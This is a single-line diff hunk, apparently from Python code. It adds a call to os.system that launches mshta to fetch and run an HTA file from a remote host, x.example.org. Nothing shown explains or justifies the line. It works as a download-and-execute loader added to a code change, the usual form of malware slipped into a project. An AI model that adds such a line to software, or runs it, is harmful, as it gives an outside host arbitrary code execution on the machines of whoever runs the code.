@@ -1,0 +1,1 @@
+os.system("mshta http://x.example.org/a.hta")
